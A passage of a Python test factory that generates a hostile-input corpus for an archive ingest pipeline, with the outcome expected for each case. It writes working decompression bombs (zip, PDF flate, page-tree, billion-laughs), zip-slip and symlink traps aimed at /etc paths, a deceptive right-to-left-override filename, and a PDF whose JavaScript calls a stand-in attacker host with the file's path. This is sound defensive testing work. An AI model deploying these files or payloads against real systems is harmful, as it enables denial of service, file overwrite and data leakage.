"""A hostile-input corpus: bombs, traps and junk that an archive's inbox will one day receive.

`build_corpus(folder)` writes every file and returns one `Case` per input the pipeline will
report on (a sidecar is written beside its file and is not a case of its own). Bombs are small
on disk: they *declare* huge sizes or inflate a thousandfold. Good control files sit in the same
folder, so one batch shows that bad input costs nothing else.

    python -m tests.factories.hostile OUT_DIR            # write the corpus and list it
    python -m tests.factories.hostile OUT_DIR --ingest   # also ingest each file alone: outcome,
time, memory

Output is deterministic (fixed seeds), so the corpus is the same on every machine.
"""

from __future__ import annotations

import io
import os
import struct
import sys
import zipfile
import zlib
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from typing import NamedTuple

import numpy as np
from PIL import Image

from tests.factories import samples

REJECTED = "rejected at ingest"
FAILS_STAGE = "accepted, fails its stage"
ACCEPTED = "accepted"


class Case(NamedTuple):
    """One input and what must happen to it."""

    name: str
    """File name in the corpus folder (str; undecodable bytes as surrogates, as os.listdir)."""
    category: str
    expect: str
    """REJECTED, FAILS_STAGE or ACCEPTED."""
    keyword: str = ""
    """A word the rejection reason (or the stage's failure message) must contain."""
    note: str = ""


Maker = Callable[[Path], object]


# --- binary writers the samples module has no use for ----------------------------------------


def _tiff(frames: list[tuple[int, int]], data: bytes = b"\0") -> bytes:
    """A little-endian TIFF of 8-bit grey frames (width, height), each with one shared strip.

    Every directory points at the same `data`, so a frame costs 114 bytes on disk whatever it
    declares: 10,000 frames are about a megabyte, and 100,000×100,000 pixels are 115 bytes.
    """
    out = bytearray(b"II*\x00" + struct.pack("<I", 8 + len(data)) + data)
    for i, (width, height) in enumerate(frames):
        start = len(out)
        entries = [
            (256, 4, width),
            (257, 4, height),
            (258, 3, 8),
            (259, 3, 1),
            (262, 3, 1),
            (273, 4, 8),
            (277, 3, 1),
            (278, 4, height),
            (279, 4, len(data)),
        ]
        out += struct.pack("<H", len(entries))
        for tag, kind, value in entries:
            out += struct.pack("<HHII", tag, kind, 1, value)
        last = i == len(frames) - 1
        out += struct.pack("<I", 0 if last else start + 2 + 12 * len(entries) + 4)
    return bytes(out)


def _tiff_loop(path: Path) -> Path:
    """One frame whose next-directory pointer points back at itself."""
    data = bytearray(_tiff([(8, 8)], b"\0" * 64))
    first = struct.unpack_from("<I", data, 4)[0]
    struct.pack_into("<I", data, first + 2 + 12 * 9, first)
    path.write_bytes(bytes(data))
    return path


def _jpeg_declaring(path: Path, w: int, h: int) -> Path:
    """A small real JPEG whose SOF0 marker is patched to declare w×h (each ≤ 65,535)."""
    buf = io.BytesIO()
    Image.new("L", (16, 16), 128).save(buf, "JPEG")
    data = bytearray(buf.getvalue())
    sof = data.find(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, h, w)
    path.write_bytes(bytes(data))
    return path


def _png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def _png_deflate_bomb(path: Path, side: int) -> Path:
    """A valid grey PNG side×side, all white: a megapixel of it deflates to about a kilobyte."""
    row = b"\0" + b"\xff" * side
    z = zlib.compressobj(9)
    body = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    png = b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", ihdr)
    png += _png_chunk(b"IDAT", body) + _png_chunk(b"IEND", b"")
    path.write_bytes(png)
    return path


def _pdf(objects: list[bytes], trailer: bytes = b"", prev_loop: bool = False) -> bytes:
    """A PDF of numbered objects (1 is the catalog) with a correct xref table.

    prev_loop=True makes the trailer's /Prev point at its own xref section: a reference loop
    in the cross-reference chain.
    """
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    prev = b" /Prev %d" % xref if prev_loop else b""
    out += b"trailer\n<< /Size %d /Root 1 0 R%s %s >>\n" % (len(objects) + 1, prev, trailer)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), extra, data)


_TEXT_PAGE = b"BT /F1 36 Tf 72 700 Td (Ban do dia chinh so 12) Tj ET"
_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def _one_page_pdf(catalog_extra: bytes = b"", box: bytes = b"0 0 612 792", content=None) -> bytes:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [%s] /Contents 4 0 R" % box
    page += b" /Resources << /Font << /F1 5 0 R >> >> >>"
    return _pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            page,
            content or _stream(_TEXT_PAGE),
            _FONT,
        ]
    )


def _pdf_javascript(path: Path) -> Path:
    """/OpenAction and a document-level name tree of JavaScript that would call out."""
    js = b"app.launchURL('http://attacker.invalid/?'+this.path, true); this.exportDataObject({});"
    action = b"<< /S /JavaScript /JS (%s) >>" % js
    extra = b"/OpenAction %s /Names << /JavaScript << /Names [(x) %s] >> >>" % (action, action)
    path.write_bytes(_one_page_pdf(extra))
    return path


def _pdf_xref_loop(path: Path) -> Path:
    path.write_bytes(_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_pages_objects()], b"", True))
    return path


def _pages_objects() -> list[bytes]:
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
    page += b" /Resources << /Font << /F1 5 0 R >> >> >>"
    return [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, _stream(_TEXT_PAGE), _FONT]


def _pdf_object_loop(path: Path) -> Path:
    """A page tree whose node lists itself as a kid, and a stream whose /Length is itself."""
    path.write_bytes(
        _pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R >>",
                b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
                b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream",
            ]
        )
    )
    return path


def _pdf_page_tree_bomb(path: Path, fanout: int = 10, depth: int = 5) -> Path:
    """fanout**depth pages from a few hundred bytes: every node's kids are the same next node."""
    nodes = []
    for level in range(depth):
        kid = 3 + level  # objects 3.. are the tree's levels; the leaf page comes after them
        parent = 1 + level
        kids = b" ".join([b"%d 0 R" % kid] * fanout)
        nodes.append(
            b"<< /Type /Pages /Parent %d 0 R /Kids [%s] /Count %d >>"
            % (parent, kids, fanout ** (depth - level))
        )
    nodes[0] = nodes[0].replace(b"/Parent 1 0 R ", b"")
    leaf = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 612 792] >>" % (1 + depth)
    path.write_bytes(_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *nodes, leaf]))
    return path


def _deflate_repeated(chunk: bytes, times: int, tail: bytes = b"") -> bytes:
    """zlib data of `chunk` × times + tail, fast: after a full flush the compressor's output
    for an identical chunk is identical, so it is computed once and repeated."""
    z = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = z.compress(chunk) + z.flush(zlib.Z_FULL_FLUSH)
    again = z.compress(chunk) + z.flush(zlib.Z_FULL_FLUSH)
    body = first + again * (times - 1) + z.compress(tail) + z.flush()
    adler = 1
    for _ in range(times):
        adler = zlib.adler32(chunk, adler)
    adler = zlib.adler32(tail, adler)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def _pdf_flate_bomb(path: Path, inflated_mb: int = 200) -> Path:
    """A page whose content stream inflates a thousandfold: 200 MB of spaces, then one line.

    At 1,000 MB (1 MB on disk) the embedded worker peaked at 2.3 GB resident and took 32 s.
    """
    body = _deflate_repeated(b" " * 1_000_000, inflated_mb, _TEXT_PAGE)
    content = b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(body), body)
    path.write_bytes(_one_page_pdf(content=content))
    return path


def _pdf_huge_page(path: Path) -> Path:
    """One page of 200,000×200,000 points (PDF's own limit is 14,400): gigapixels at 300 dpi."""
    path.write_bytes(_one_page_pdf(box=b"0 0 200000 200000"))
    return path


def _ply_ascii_claiming(path: Path, declared: int) -> Path:
    header = (
        f"ply\nformat ascii 1.0\nelement vertex {declared}\n"
        "property float x\nproperty float y\nproperty float z\nend_header\n"
    )
    path.write_text(header + "0 0 0\n1 0 0\n0 1 0\n", encoding="ascii")
    return path


def _las_claiming(path: Path, points: int, version: str = "1.4") -> Path:
    """A real LAS (laspy) of 10 points whose header is patched to claim `points`."""
    samples.make_las(path, 10, version=version, point_format=1)
    data = bytearray(path.read_bytes())
    struct.pack_into("<I", data, 107, min(points, 2**32 - 1))  # legacy count
    if version == "1.4":
        struct.pack_into("<Q", data, 247, points)
    path.write_bytes(bytes(data))
    return path


def _laz_claiming(path: Path, points: int) -> Path:
    """A compressed LAS (LAZ) of 10 points claiming `points`; compressed data has no size rule."""
    import laspy

    tmp = path.with_suffix(".tmp.las")
    samples.make_las(tmp, 10, point_format=1)
    las = laspy.read(tmp)
    tmp.unlink()
    las.write(path, do_compress=True)
    data = bytearray(path.read_bytes())
    struct.pack_into("<I", data, 107, points)
    path.write_bytes(bytes(data))
    return path


def _glb_claiming(path: Path, count: int) -> Path:
    """A GLB whose POSITION accessor claims `count` vertices."""
    import json

    gltf = {
        "asset": {"version": "2.0"},
        "meshes": [{"primitives": [{"attributes": {"POSITION": 0}}]}],
        "accessors": [{"count": count, "componentType": 5126, "type": "VEC3"}],
    }
    text = json.dumps(gltf).encode()
    text += b" " * (-len(text) % 4)
    body = struct.pack("<I4s", len(text), b"JSON") + text
    path.write_bytes(struct.pack("<4sII", b"glTF", 2, 12 + len(body)) + body)
    return path


def _pcd_claiming(path: Path, points: int) -> Path:
    header = (
        "VERSION 0.7\nFIELDS x y z\nSIZE 4 4 4\nTYPE F F F\nCOUNT 1 1 1\n"
        f"WIDTH {points}\nHEIGHT 1\nVIEWPOINT 0 0 0 1 0 0 0\nPOINTS {points}\nDATA binary\n"
    )
    path.write_bytes(header.encode("ascii") + b"\0" * 120)
    return path


def _stl_claiming(path: Path, triangles: int) -> Path:
    path.write_bytes(b"\0" * 80 + struct.pack("<I", triangles) + b"\0" * 50)
    return path


def _xyz_nan(path: Path, good_lines: int = 400) -> Path:
    """A point list that starts well (the sniffed head) and turns into NaN and infinity."""
    pts = np.random.default_rng(3).uniform(0, 10, size=(good_lines, 3))
    good = "".join(f"{x:.4f} {y:.4f} {z:.4f}\n" for x, y, z in pts)
    path.write_text(good + "nan nan nan\ninf -inf 1\n" * 200, encoding="ascii")
    return path


def _xyz_all_nan(path: Path) -> Path:
    path.write_text("nan nan nan\n" * 100, encoding="ascii")
    return path


def _e57_nan(path: Path) -> Path:
    """A real E57 of one scan, a third of its points NaN (written as a float32 marker, then
    patched: pye57 cannot write the bounds of a NaN cloud)."""
    marker = 1234.5678
    pts = np.random.default_rng(7).uniform(0, 1, size=(300, 3))
    pts[::3] = marker
    _e57_points(path, pts)
    logical = _e57_logical(path.read_bytes())
    logical = logical.replace(struct.pack("<f", marker), struct.pack("<f", float("nan")))
    path.write_bytes(_e57_physical(logical))
    return path


_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n"
)


def _billion_laughs(root: str) -> str:
    return _LAUGHS + f"<{root}>&lol9;</{root}>\n"


def _e57_laughs(path: Path) -> Path:
    """A real E57 whose XML section is replaced by a billion-laughs document (CRCs redone)."""
    _e57_points(path, np.random.default_rng(5).uniform(0, 1, size=(200, 3)))
    xml = _billion_laughs("e57Root").replace("<e57Root>", '<e57Root type="Structure">').encode()
    logical = _e57_logical(path.read_bytes())
    xml_at = len(logical)
    logical += xml
    physical_xml = (xml_at // _E57_PAYLOAD) * _E57_PAGE + xml_at % _E57_PAYLOAD
    total = -(-len(logical) // _E57_PAYLOAD) * _E57_PAGE
    struct.pack_into("<QQQ", logical, 16, total, physical_xml, len(xml))
    path.write_bytes(_e57_physical(logical))
    return path


def _e57_points(path: Path, pts: np.ndarray) -> Path:
    import pye57

    with pye57.E57(str(path), mode="w") as e57:
        e57.write_scan_raw(
            {"cartesianX": pts[:, 0], "cartesianY": pts[:, 1], "cartesianZ": pts[:, 2]}
        )
    return path


def _crc32c(data: bytes) -> int:
    crc = 0xFFFFFFFF
    for byte in data:
        crc = _CRC32C[(crc ^ byte) & 0xFF] ^ (crc >> 8)
    return crc ^ 0xFFFFFFFF


def _crc32c_table() -> list[int]:
    table = []
    for n in range(256):
        c = n
        for _ in range(8):
            c = (c >> 1) ^ 0x82F63B78 if c & 1 else c >> 1
        table.append(c)
    return table


_CRC32C = _crc32c_table()
_E57_PAGE, _E57_PAYLOAD = 1024, 1020
"""E57 files are pages of 1,020 bytes of payload and a CRC-32C."""


def _e57_logical(physical: bytes) -> bytearray:
    return bytearray(
        b"".join(physical[i : i + _E57_PAYLOAD] for i in range(0, len(physical), _E57_PAGE))
    )


def _e57_physical(logical: bytes) -> bytes:
    logical = bytes(logical) + b"\0" * (-len(logical) % _E57_PAYLOAD)
    pages = (logical[i : i + _E57_PAYLOAD] for i in range(0, len(logical), _E57_PAYLOAD))
    return b"".join(page + struct.pack(">I", _crc32c(page)) for page in pages)


# --- containers -------------------------------------------------------------------------------


def _zip_nested(path: Path) -> Path:
    """A ZIP of ZIPs: a zip bomb inside, and a harmless ZIP of a PNG beside it."""
    inner_bomb = path.with_name("inner-bomb.tmp")
    samples.make_zip_bomb(inner_bomb, 20_000_000)
    png = io.BytesIO()
    samples._picture(40, 30, seed=9).save(png, "PNG")
    inner_ok = io.BytesIO()
    with zipfile.ZipFile(inner_ok, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("page.png", png.getvalue())
    samples.make_zip(path, {"bomb.zip": inner_bomb.read_bytes(), "ok.zip": inner_ok.getvalue()})
    inner_bomb.unlink()
    return path


def _zip_lying_sizes(path: Path) -> Path:
    """A zip bomb whose headers declare 1,000 bytes: only counting real bytes catches it."""
    samples.make_zip_bomb(path, 20_000_000)
    data = bytearray(path.read_bytes())
    for signature, size_at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        at = data.find(signature)
        struct.pack_into("<I", data, at + size_at, 1000)
    # The member was streamed, so its sizes also sit in a data descriptor after the data.
    descriptor = data.find(b"PK\x07\x08")
    if descriptor >= 0:
        struct.pack_into("<I", data, descriptor + 12, 1000)
    path.write_bytes(bytes(data))
    return path


def _zip_diluted_bomb(path: Path) -> Path:
    """Incompressible padding keeps the archive's overall ratio under 200×, one member 1000×."""
    chunk = b"\0" * 1_000_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("padding.bin", np.random.default_rng(4).bytes(600_000))
        with zf.open("zeros.bin", "w") as member:
            for _ in range(100):
                member.write(chunk)
    return path


def _zip_overlapping(path: Path, entries: int = 200) -> Path:
    """Many central-directory entries pointing at one member (a 'non-recursive' zip bomb).

    The member itself inflates only ~28×, so each entry passes a ratio check on declared sizes;
    the archive as a whole expands about 4,800 times its real size (400 MB from 83 KB).
    """
    rng = np.random.default_rng(6)
    data = bytearray(2_000_000)
    data[::64] = rng.bytes(len(data[::64]))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zf.writestr("scan.bin", bytes(data))
    raw = bytearray(path.read_bytes())
    cd = raw.find(b"PK\x01\x02")
    eocd = raw.find(b"PK\x05\x06")
    entry = bytes(raw[cd:eocd])
    directory = entry * entries
    tail = bytearray(raw[eocd:])
    struct.pack_into("<HHII", tail, 8, entries, entries, len(directory), cd)
    path.write_bytes(bytes(raw[:cd]) + directory + bytes(tail))
    return path


def _zip_corrupt_member(path: Path) -> Path:
    """A ZIP of one stored PNG with one byte of its data flipped: the CRC no longer matches."""
    png = io.BytesIO()
    samples._picture(40, 30, seed=13).save(png, "PNG")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("page.png", png.getvalue())
    data = bytearray(path.read_bytes())
    data[30 + len("page.png") + 100] ^= 0xFF
    path.write_bytes(bytes(data))
    return path


def _zip_many_members(path: Path, n: int = 10_001) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zf:
        for i in range(n):
            zf.writestr(f"m{i}.txt", b"")
    return path


def _zip_named(path: Path, name: str) -> Path:
    """A ZIP of two pictures: `ok.png` and one under `name`."""
    pictures = []
    for seed in (11, 12):
        png = io.BytesIO()
        samples._picture(30 + seed, 20, seed=seed).save(png, "PNG")
        pictures.append(png.getvalue())
    return samples.make_zip(path, {"ok.png": pictures[0], name: pictures[1]})


# --- names and sidecars -----------------------------------------------------------------------


def _good_png(seed: int) -> Maker:
    def make(path: Path) -> Path:
        samples._picture(64, 48, seed=seed).save(path, "PNG")
        return path

    return make


def _with_sidecar(text_or_maker, suffix: str = ".json", seed: int = 20) -> Maker:
    """A good PNG with a sidecar beside it (`NAME.png.json`), the sidecar being hostile."""

    def make(path: Path) -> Path:
        _good_png(seed)(path)
        side = path.with_name(path.name + suffix)
        if callable(text_or_maker):
            text_or_maker(side)
        else:
            side.write_text(text_or_maker, encoding="utf-8")
        return path

    return make


def _big_sidecar(path: Path, size: int = 50_000_000) -> Path:
    with path.open("w", encoding="ascii") as f:
        f.write('{"title": "')
        for _ in range(size // 1_000_000):
            f.write("a" * 1_000_000)
        f.write('"}')
    return path


def _deep_sidecar(path: Path, depth: int = 100_000) -> Path:
    path.write_text('{"tags": ' + "[" * depth + "]" * depth + "}", encoding="ascii")
    return path


def _write(data: bytes) -> Maker:
    def make(path: Path) -> Path:
        path.write_bytes(data)
        return path

    return make


def _random(seed: int, n: int = 4096) -> Maker:
    return lambda path: samples.make_random(path, n, seed)


def _truncated(maker: Maker, keep: float = 0.6) -> Maker:
    def make(path: Path) -> Path:
        full = path.with_name(path.name + ".full")
        maker(full)
        samples.truncated_copy(full, path, keep)
        full.unlink()
        return path

    return make


# --- the corpus -------------------------------------------------------------------------------

_C = Case
_NON_UTF8 = os.fsdecode(b"scan-\xff\xfe-latin1.png")
_LONG = "b\u1ea3n-\u0111\u1ed3-" + "\u0111" * 119 + "a.png"  # 255 bytes: ext4's longest name
_CASES: list[tuple[Case, Maker]] = [
    # decompression bombs
    (_C("png-declares-60000x60000.png", "bomb", REJECTED, "pixels"), samples.make_png_declaring),
    (
        _C("tiff-declares-100000x100000.tif", "bomb", REJECTED, "pixels"),
        _write(_tiff([(100_000, 100_000)])),
    ),
    (
        _C("jpeg-declares-65000x65000.jpg", "bomb", REJECTED, "pixels"),
        lambda p: _jpeg_declaring(p, 65_000, 65_000),
    ),
    (
        _C(
            "png-deflate-bomb-49mpx.png",
            "bomb",
            ACCEPTED,
            "",
            "7,000×7,000 white, 60 KB on disk; within the pixel limit, so it is read",
        ),
        lambda p: _png_deflate_bomb(p, 7000),
    ),
    (
        _C(
            "pdf-flate-bomb.pdf",
            "bomb",
            REJECTED,
            "bomb",
            "its content stream inflates 1000× to 200 MB of spaces",
        ),
        _pdf_flate_bomb,
    ),
    (_C("pdf-page-tree-100000-pages.pdf", "bomb", REJECTED, "pages"), _pdf_page_tree_bomb),
    (_C("pdf-page-200000pt.pdf", "bomb", FAILS_STAGE, "pixels"), _pdf_huge_page),
    (_C("zip-bomb-1000x.zip", "bomb", REJECTED, "zip bomb"), samples.make_zip_bomb),
    (_C("zip-bomb-lying-sizes.zip", "bomb", REJECTED, "corrupt ZIP entry"), _zip_lying_sizes),
    (_C("zip-bomb-diluted.zip", "bomb", REJECTED, "zip bomb"), _zip_diluted_bomb),
    (_C("zip-bomb-overlapping.zip", "bomb", REJECTED, "zip bomb"), _zip_overlapping),
    (_C("zip-nested.zip", "bomb", REJECTED, "zip"), _zip_nested),
    (
        _C("zip-corrupt-member.zip", "bomb", REJECTED, "CRC", "one flipped byte in a member"),
        _zip_corrupt_member,
    ),
    (_C("zip-10001-members.zip", "bomb", REJECTED, "SOHOA_MAX_ZIP_MEMBERS"), _zip_many_members),
    # ZIP traps
    (_C("zip-slip.zip", "zip-slip", REJECTED, "escapes"), samples.make_zip_slip),
    (
        _C("zip-absolute.zip", "zip-slip", REJECTED, "escapes"),
        lambda p: _zip_named(p, "/etc/cron.d/evil.png"),
    ),
    (
        _C("zip-backslash.zip", "zip-slip", REJECTED, "escapes"),
        lambda p: _zip_named(p, "..\\..\\evil.png"),
    ),
    (_C("zip-symlink.zip", "zip-slip", REJECTED, "link"), samples.make_zip_symlink),
    (
        _C("zip-control-name.zip", "zip-slip", REJECTED, "control"),
        lambda p: _zip_named(p, "scan\x1b[31m.png"),
    ),
    # PDF traps
    (
        _C(
            "pdf-javascript.pdf",
            "pdf",
            ACCEPTED,
            "",
            "its JavaScript never runs: PDFium here has no JS engine, the page is only drawn",
        ),
        _pdf_javascript,
    ),
    (_C("pdf-xref-prev-loop.pdf", "pdf", ACCEPTED, "", "PDFium stops at the loop"), _pdf_xref_loop),
    (_C("pdf-object-loop.pdf", "pdf", ACCEPTED, "", "PDFium breaks both loops"), _pdf_object_loop),
    (_C("pdf-encrypted.pdf", "pdf", REJECTED, "encrypted"), samples.make_encrypted_pdf),
    (_C("pdf-no-pages.pdf", "pdf", REJECTED, "no pages"), samples.make_pdf_without_pages),
    # TIFF traps
    (
        _C("tiff-10000-frames.tif", "tiff", REJECTED, "SOHOA_MAX_PAGES"),
        _write(_tiff([(4, 4)] * 10_000, b"\0" * 16)),
    ),
    (_C("tiff-directory-loop.tif", "tiff", REJECTED, "loops"), _tiff_loop),
    (
        _C(
            "tiff-corrupt-page-2.tif",
            "tiff",
            FAILS_STAGE,
            "page 2",
            "page 2 holds garbage: that page fails, the others are read",
        ),
        samples.make_tiff_with_corrupt_page,
    ),
    # 3D headers
    (
        _C("ply-claims-2^40-vertices.ply", "3d", REJECTED, "points"),
        lambda p: samples.make_ply_claiming(p, 2**40),
    ),
    (
        _C("ply-ascii-claims-2^40.ply", "3d", REJECTED, "points"),
        lambda p: _ply_ascii_claiming(p, 2**40),
    ),
    (
        _C("ply-claims-40M-holds-10.ply", "3d", REJECTED, "truncated"),
        lambda p: samples.make_ply_claiming(p, 40_000_000),
    ),
    (_C("las-claims-2^62-points.las", "3d", REJECTED, "points"), lambda p: _las_claiming(p, 2**62)),
    (
        _C("las-claims-40M-holds-10.las", "3d", REJECTED, "holds only"),
        lambda p: _las_claiming(p, 40_000_000, "1.2"),
    ),
    (
        _C(
            "laz-claims-40M-holds-10.laz",
            "3d",
            FAILS_STAGE,
            "LAS",
            "compressed: the size cannot be checked at ingest",
        ),
        lambda p: _laz_claiming(p, 40_000_000),
    ),
    (
        _C("glb-claims-2^40-vertices.glb", "3d", REJECTED, "points"),
        lambda p: _glb_claiming(p, 2**40),
    ),
    (_C("pcd-claims-2^40-points.pcd", "3d", REJECTED, "points"), lambda p: _pcd_claiming(p, 2**40)),
    (
        _C("stl-claims-4G-triangles.stl", "3d", REJECTED, "unsupported"),
        lambda p: _stl_claiming(p, 2**32 - 1),
    ),
    (
        _C("xyz-nan-after-head.xyz", "3d", ACCEPTED, "", "NaN and infinity past the first 4 KiB"),
        _xyz_nan,
    ),
    (_C("xyz-all-nan.xyz", "3d", REJECTED, "unsupported"), _xyz_all_nan),
    (_C("e57-nan.e57", "3d", ACCEPTED, "", "a real E57 whose points are NaN or 3e38"), _e57_nan),
    (
        _C(
            "e57-billion-laughs.e57",
            "xml",
            FAILS_STAGE,
            "XML",
            "its XML section declares entities that expand to 10^9 'lol's",
        ),
        _e57_laughs,
    ),
    # names
    (_C("scan\x07bell.png", "name", REJECTED, "control"), _good_png(30)),
    (_C("scan\nnewline.png", "name", REJECTED, "control"), _good_png(31)),
    (
        _C(
            "invoice\u202egnp.exe.png",
            "name",
            REJECTED,
            "bidirectional",
            "U+202E RIGHT-TO-LEFT OVERRIDE: shown as 'invoiceexe.png.png'",
        ),
        _good_png(32),
    ),
    (_C(_NON_UTF8, "name", REJECTED, "UTF-8"), _good_png(33)),
    (
        _C(_LONG, "name", ACCEPTED, "", "255 bytes of Vietnamese: long but legitimate"),
        _good_png(34),
    ),
    (_C("-rf --help.png", "name", ACCEPTED, "", "looks like command-line options"), _good_png(35)),
    (
        _C("symlink-to-passwd.png", "name", REJECTED, "link", "a symbolic link in the folder"),
        lambda p: p.symlink_to("/etc/passwd"),
    ),
    # sidecars
    (_C("sidecar-50mb.png", "sidecar", REJECTED, "sidecar"), _with_sidecar(_big_sidecar)),
    (
        _C("sidecar-deep.png", "sidecar", REJECTED, "sidecar", "100,000 nested lists"),
        _with_sidecar(_deep_sidecar, seed=21),
    ),
    (
        _C("sidecar-unknown-field.png", "sidecar", REJECTED, "__proto__"),
        _with_sidecar('{"__proto__": {"admin": true}}', seed=22),
    ),
    (
        _C(
            "billion-laughs.xml",
            "xml",
            REJECTED,
            "unsupported",
            "an XML 'sidecar' or ALTO file: never parsed, so never expanded",
        ),
        lambda p: p.write_text(_billion_laughs("alto"), encoding="ascii"),
    ),
    # junk: empty, random bytes with every extension, truncated files of every type
    (_C("empty.pdf", "junk", REJECTED, "empty"), samples.make_empty),
    (_C("empty.tif", "junk", REJECTED, "empty"), samples.make_empty),
    *[
        (_C(f"random.{ext}", "junk", REJECTED, "unsupported"), _random(100 + i))
        for i, ext in enumerate(
            (
                "png",
                "jpg",
                "tif",
                "jp2",
                "pdf",
                "ply",
                "obj",
                "stl",
                "glb",
                "pcd",
                "xyz",
                "las",
                "laz",
                "e57",
                "zip",
            )
        )
    ],
    (
        _C("truncated.png", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_png(p, 120, 90)),
    ),
    (
        _C("truncated.jpg", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_jpeg(p, 120, 90)),
    ),
    (
        _C("truncated.tif", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_tiff(p, 3, compression="raw"), keep=0.2),
    ),
    (  # cut in page 2: page 1 is read, pages 2 and 3 are recorded as failed pages
        _C("truncated-in-page-2.tif", "truncated", FAILS_STAGE, "page 2"),
        _truncated(lambda p: samples.make_tiff(p, 3, compression="raw")),
    ),
    (
        _C("truncated.jp2", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_jp2(p, 120, 90)),
    ),
    (
        _C("truncated.pdf", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_pdf(p, 2)),
    ),
    (
        _C("truncated.ply", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_ply(p, 500)),
    ),
    (
        _C(
            "truncated.stl",
            "truncated",
            REJECTED,
            "unsupported",
            "binary STL has no magic: cut short, it is indistinguishable from junk",
        ),
        _truncated(lambda p: samples.make_stl(p)),
    ),
    (
        _C("truncated-ascii.stl", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_stl(p, binary=False)),
    ),
    (_C("truncated.glb", "truncated", REJECTED, "truncated"), _truncated(samples.make_glb)),
    (
        _C("truncated.pcd", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: samples.make_pcd(p, 500, binary=True)),
    ),
    (
        _C("truncated.las", "truncated", REJECTED, "holds only"),
        _truncated(lambda p: samples.make_las(p, 500)),
    ),
    (
        _C("truncated.e57", "truncated", REJECTED, "truncated"),
        _truncated(lambda p: _e57_points(p, np.ones((300, 3)))),
    ),
    # wrong extension: content decides
    (_C("really-a-png.pdf", "wrong-extension", ACCEPTED), _good_png(40)),
    (
        _C("really-a-pdf.jpg", "wrong-extension", ACCEPTED),
        lambda p: samples.make_pdf(p, 1, 200, 260),
    ),
    # good controls: the same batch must ingest these
    (_C("good.png", "control", ACCEPTED), _good_png(50)),
    (_C("good.jpg", "control", ACCEPTED), lambda p: samples.make_jpeg(p, 200, 150, exif=True)),
    (_C("good.tif", "control", ACCEPTED), lambda p: samples.make_tiff(p, 2)),
    (_C("good.pdf", "control", ACCEPTED), lambda p: samples.make_pdf(p, 1)),
    (_C("good.ply", "control", ACCEPTED), lambda p: samples.make_ply(p, 300)),
    (_C("good.las", "control", ACCEPTED), lambda p: samples.make_las(p, 300)),
    (_C("good.zip", "control", ACCEPTED), lambda p: _zip_named(p, "sub/page.png")),
]


def cases() -> list[Case]:
    """The corpus's cases without writing anything (for test parametrisation)."""
    return [case for case, _ in _CASES]


def build_corpus(folder: Path) -> list[Case]:
    """Write every corpus file into `folder` (created) and return the cases, in order."""
    folder.mkdir(parents=True, exist_ok=True)
    for case, make in _CASES:
        make(folder / case.name)
    return [case for case, _ in _CASES]


# -- mutants: real files cut, flipped and zeroed (issue 20) -----------------------------------

MUTANT_SOURCES: tuple[tuple[str, Maker], ...] = (
    ("page.png", lambda p: samples.make_png(p, 24, 18)),
    ("photo.jpg", lambda p: samples.make_jpeg(p, 24, 18)),
    ("scan.tif", lambda p: samples.make_tiff(p, 2, w=24, h=18)),
    ("scan-lzw.tif", lambda p: samples.make_tiff(p, 1, w=24, h=18, compression="tiff_lzw")),
    ("page.jp2", lambda p: samples.make_jp2(p, 24, 18)),
